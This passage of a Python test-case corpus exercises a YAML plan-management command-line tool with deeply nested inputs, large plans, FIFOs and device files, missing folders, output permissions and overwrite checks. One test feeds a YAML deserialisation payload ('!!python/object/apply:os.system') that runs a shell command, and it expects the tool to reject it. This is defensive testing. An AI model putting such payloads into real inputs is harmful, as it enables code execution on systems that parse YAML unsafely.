        ("validate-python-tag", lambda _c: "kind: agencies\n"
         "agencies: !!python/object/apply:os.system ['touch pwned']\n", ("validate",), BAD),
        ("report-20000-nested-sequences", lambda _c: r.nested_sequences(20_000), REPORT, ANY),
        ("render-20000-nested-mappings", lambda _c: r.nested_mappings(20_000),
         ("render", "plans/mau/bomb.yaml", "--to", "md", "-o", "out"), BAD),
    )
    for name, text, argv, exits in bombs:
        outs = ("out",) if argv[0] == "render" else ()
        add(name, 12, argv, compose(mini(), write("plans/mau/bomb.yaml", text)), exits, outs, weight=8)
    rules: dict[str, Callable[[Path], str | bytes]] = {
        "20000-nested": lambda _c: "unit: x\nstars: " + "[" * 20_000 + "]" * 20_000 + "\n",
    }
    for name, content in rules.items():
        add(f"rewards-rule-{name}", 12, ("rewards", "--rule", "r.yaml"), compose(mini(), write("r.yaml", content)),
            BAD, weight=3)
    for name, content in (("empty-file", b""),):
        add(f"validate-{name}", 12, ("validate", "x.yaml"), write("x.yaml", content), ANY if "utf16" in name else BAD)
    add("validate-dash-as-path", 12, ("validate", "-"), nothing, BAD)
    add("validate-folder-with-newline-and-spaces", 12, ("validate", "my plans\n"),
        compose(mini(where="my plans\n/mau")), ODD)


# =========================================================================== 13 scale

# The one-file figure is 200,000 tasks; report, owners and export of it take 12-20 s on two
# cores, too close to the 20 s per case to be a fair test on a busy machine. Here half of it, twice
# the national repository's largest plan; benchmarks/bench_onefile.py measures 200,000 (time, memory).
SCALE_TASKS = 100_000
VALIDATE_TASKS = 30_000  # validate may take 1 GB for 200,000 tasks; here it must fit 500 MB and 20 s
EXPORT_TASKS = SCALE_TASKS


def _scale() -> None:
    def plan_of(n: int) -> Setup:
        return compose(mini(), write(PLAN, lambda _case: r.big_plan(n)))

    add(f"validate-one-plan-{VALIDATE_TASKS}-tasks", 13, ("validate", "--today", "2019-01-01"),
        plan_of(VALIDATE_TASKS), ODD, weight=15)
    for name, argv, outs in (
        ("report-json", ("report", "--quarter", "Q3-2018", "--as-of", "2018-10-15", "-f", "json", "-o", "r.json"),
         ("r.json",)),
        ("owners", OWNERS, ()),
        ("export-xlsx", ("export", PLAN, "--annex", "1", "-o", "t.xlsx"), ("t.xlsx",)),
    ):
        tasks = EXPORT_TASKS if name.startswith("export") else SCALE_TASKS
        add(f"{name}-one-plan-{tasks}-tasks", 13, argv, plan_of(tasks), OK, outs, [wrote(o) for o in outs], weight=20)
    add("import-csv-20000-rows", 13, ("import", "t.csv", *IMPORT_PRODUCTS),
        write("t.csv", lambda _c: r.csv_text([r.PRODUCT_HEADER, *(
            [str(i), f"Sản phẩm {i}", "thực phẩm", f"HTX {i}", "Huyện A", "3", "60", "2019-12-20", "tỉnh"]
            for i in range(20_000))])), OK, ("out.yaml",), [wrote("out.yaml")], weight=15)


# =========================================================================== 14 FIFOs and devices


def _devices() -> None:
    add("rewards-rule-fifo", 14, ("rewards", "--rule", "rule.fifo"), compose(mini(), fifo("rule.fifo")), USAGE,
        weight=5)
    add("rewards-rule-dev-zero", 14, ("rewards", "--rule", "/dev/zero"), mini(), USAGE, weight=5)
    add("rewards-rule-is-a-folder", 14, ("rewards", "--rule", "rule.yaml"), compose(mini(rule=""), mkdir("rule.yaml")),
        USAGE)
    add("validate-plan-fifo-in-folder", 14, ("validate", "--today", "2019-01-01"),
        compose(mini(), fifo("plans/mau/x.yaml")), ANY, weight=5)
    add("validate-plan-fifo-named", 14, ("validate", "plans/mau/x.yaml"), compose(mini(), fifo("plans/mau/x.yaml")),
        BAD, weight=5)
    add("validate-directory-named-yaml", 14, ("validate", "x.yaml"), mkdir("x.yaml"), BAD)
    add("import-fifo", 14, ("import", "t.csv", *IMPORT_PRODUCTS), fifo("t.csv"), USAGE, ("out.yaml",), weight=5)
    add("import-symlink-to-dev-zero", 14, ("import", "t.csv", *IMPORT_PRODUCTS), symlink("t.csv", "/dev/zero"),
        USAGE, ("out.yaml",), weight=5)
    add("export-fifo", 14, ("export", "x.yaml", "-o", "t.csv"), fifo("x.yaml"), USAGE, ("t.csv",), weight=5)
    add("render-template-fifo", 14, ("render", PLAN, "--templates", "tpl", "--to", "md", "-o", "out"),
        compose(mini(), fifo("tpl/document.j2")), EDGE, ("out",), weight=5)


# =========================================================================== 15 silent no-ops

QN_ANNEXES = 6


def _no_ops() -> None:
    add("rewards-xlsx-writes-the-file", 15, ("rewards", "--rule", "rule.yaml", "-f", "xlsx", "-o", "w.xlsx"), mini(),
        OK, ("w.xlsx",), [wrote("w.xlsx"), xlsx_opens("w.xlsx")])
    add("rewards-xlsx-without-output", 15, ("rewards", "--rule", "rule.yaml", "-f", "xlsx"), mini(), USAGE)
    add("products-list-text-output-written", 15, ("products", "list", "-o", "p.txt"), mini(), OK, ("p.txt",),
        [wrote("p.txt"), contains("p.txt", "Chè xanh Mẫu")])
    add("products-stats-text-output-written", 15, ("products", "stats", "-o", "s.txt"), mini(), OK, ("s.txt",),
        [wrote("s.txt")])
    rule = write("rule.yaml", r.RULE)
    for name, argv, outs in (
        ("validate", ("validate",), ()),
        ("report", ("report", "--quarter", "Q3-2018"), ()),
        ("owners", ("owners",), ()),
        ("calendar", ("calendar", "-o", "c.ics"), ("c.ics",)),
        ("products-list", ("products", "list"), ()),
        ("rewards", ("rewards", "--rule", "rule.yaml"), ()),
        ("render", ("render", "plans", "-o", "out"), ("out",)),
        ("export", ("export", "plans/x.yaml", "-o", "t.csv"), ("t.csv",)),
    ):
        add(f"{name}-where-no-plans-folder", 15, argv, rule, USAGE, outs)
    add("report-empty-plans-folder", 15, ("report", "--quarter", "Q3-2018"), mkdir("plans"), USAGE)
    for province, doc, count in (("quang-ninh", "plans/quang-ninh/2017-2366-qd-ubnd.yaml", QN_ANNEXES),):
        for n in range(1, count + 1):
            add(f"export-{province}-annex-{n}-xlsx", 15, ("export", doc, "--annex", str(n), "-o", "a.xlsx"),
                seed(province), EDGE, ("a.xlsx",), [wrote("a.xlsx"), xlsx_rectangular("a.xlsx")])
            add(f"export-{province}-annex-{n}-csv", 15, ("export", doc, "--annex", str(n), "-o", "a.csv"),
                seed(province), EDGE, ("a.csv",), [wrote("a.csv"), csv_rectangular("a.csv")])
    add("checks-lists-codes", 15, ("checks",), nothing, OK, (), [contains("stdout", "OC001")])
    add("unknown-command", 15, ("frobnicate",), nothing, USAGE)
    add("export-dash-as-file", 15, ("export", "-", "-o", "t.csv"), mini(), USAGE, ("t.csv",))


# =========================================================================== 16 output permissions


def _permissions() -> None:
    for name, argv, outs in (
        ("report-md", (*REPORT, "-f", "md", "-o", "r.md"), ("r.md",)),
        ("products-list-xlsx", ("products", "list", "-f", "xlsx", "-o", "p.xlsx"), ("p.xlsx",)),
        ("products-stats-html", ("products", "stats", "-f", "html", "-o", "s.html"), ("s.html",)),
        ("rewards-json", ("rewards", "--rule", "rule.yaml", "-f", "json", "-o", "w.json"), ("w.json",)),
        ("calendar", ("calendar", "-o", "c.ics"), ("c.ics",)),
        ("import", ("import", "t.csv", *IMPORT_PRODUCTS), ("out.yaml",)),
        ("export-csv", ("export", PLAN, "--annex", "1", "-o", "e.csv"), ("e.csv",)),  # t.csv is the import input
        ("export-xlsx", ("export", PLAN, "--annex", "2", "-o", "p.xlsx"), ("p.xlsx",)),
        ("render-all", ("render", "plans", "--to", "all", "-o", "out"), ("out",)),
        ("schema", ("schema", "-o", "sch"), ("sch",)),
        ("report-into-new-folder", (*REPORT, "-f", "csv", "-o", "new/deeper/r.csv"), ("new",)),
    ):
        add(f"{name}-output-mode-0644", 16, argv, WRITER_SETUP, OK, outs, [modes()])


# =========================================================================== 17 export over a file


def _overwrite() -> None:
    old = write("t.csv", "an older table the office keeps\n")
    add("export-csv-over-existing-file", 17, ("export", PLAN, "--annex", "1", "-o", "t.csv"), compose(mini(), old),
        USAGE)
    add("export-xlsx-over-existing-file", 17, ("export", PLAN, "--annex", "1", "-o", "t.xlsx"),
        compose(mini(), write("t.xlsx", r.xlsx_bytes([["an older table"]]))), USAGE)
    add("export-over-existing-file-with-force", 17, ("export", PLAN, "--annex", "1", "--force", "-o", "t.csv"),
        compose(mini(), old), OK, ("t.csv",), [wrote("t.csv"), contains("t.csv", "Tổ chức hội nghị")])
    add("import-over-existing-file", 17, ("import", "t.csv", *IMPORT_PRODUCTS),
        compose(write("t.csv", PRODUCTS_CSV), write("out.yaml", "kind: products\nprovince: x\nproducts: []\n")),
        USAGE)
    add("import-over-existing-file-with-force", 17, ("import", "t.csv", *IMPORT_PRODUCTS, "--force"),
        compose(write("t.csv", PRODUCTS_CSV), write("out.yaml", "kind: products\nprovince: x\nproducts: []\n")),
        OK, ("out.yaml",), [contains("out.yaml", "Chè xanh Mẫu")])


# =========================================================================== the corpus

BUILDERS: tuple[Callable[[], None], ...] = (
    _templates, _bombs, _formulas, _markup, _markdown, _dates, _unwritable, _over_inputs, _spreadsheets, _control,
    _numbers, _yaml, _scale, _devices, _no_ops, _permissions, _overwrite)


def all_cases() -> list[Case]:
    if not _CASES:
        for build in BUILDERS:
            build()
        ids = [c.id for c in _CASES]
        dupes = {i for i in ids if ids.count(i) > 1}
        assert not dupes, f"case ids must be unique: {sorted(dupes)}"
    return list(_CASES)


def by_class(cases: list[Case]) -> dict[int, list[Case]]:
    out: dict[int, list[Case]] = {k: [] for k in CLASSES}
    for c in cases:
        for k in c.classes:
            out[k].append(c)
    return out


if __name__ == "__main__":  # pragma: no cover - a quick census
    cs = all_cases()
    print(len(cs), "cases")
    for k, v in by_class(cs).items():
        print(f"{k:2} {CLASSES[k]:28} {len(v)}")
    print(sorted({c.command for c in cs}))
